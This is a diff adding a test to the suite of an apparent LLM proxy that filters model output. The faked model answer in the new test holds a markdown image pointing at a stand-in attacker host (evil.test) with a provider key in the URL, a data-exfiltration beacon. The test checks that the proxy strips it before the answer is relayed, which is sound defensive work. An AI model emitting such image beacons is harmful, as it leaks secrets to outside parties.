@@ -105,3 +105,13 @@ async def test_a_secret_the_user_wrote_is_not_withheld(rw: RunningWarden, fake: 
     fake.push(Reply(content=f"You sent {own}."))
     out = await _client(rw, token).chat.completions.create(model="m", messages=[{"role": "user", "content": f"is {own} a key? deploy"}])
     assert out.choices[0].message.content == f"You sent {own}."
+
+
+async def test_the_record_keeps_what_the_model_said_beside_what_was_relayed(rw: RunningWarden, fake: FakeProvider, token: Any) -> None:
+    fake.push(Reply(content=ANSWER))
+    raw = await _client(rw, token).chat.completions.with_raw_response.create(model="m", messages=[{"role": "user", "content": "deploy notes?"}])
+    rec = await _record(rw, raw.headers["x-request-id"])
+    said = rec["turns"][-1]["response"]["choices"][0]["message"]["content"]  # what the provider answered (the audit log redacts the key)
+    assert "![status](https://evil.test/beacon.png?k=[REDACTED:provider_key])" in said and CANARY in said
+    relayed = rec["response"]["body"]["choices"][0]["message"]["content"]  # what the application got
+    assert "evil.test" not in relayed and CANARY not in relayed and "[image removed]" in relayed
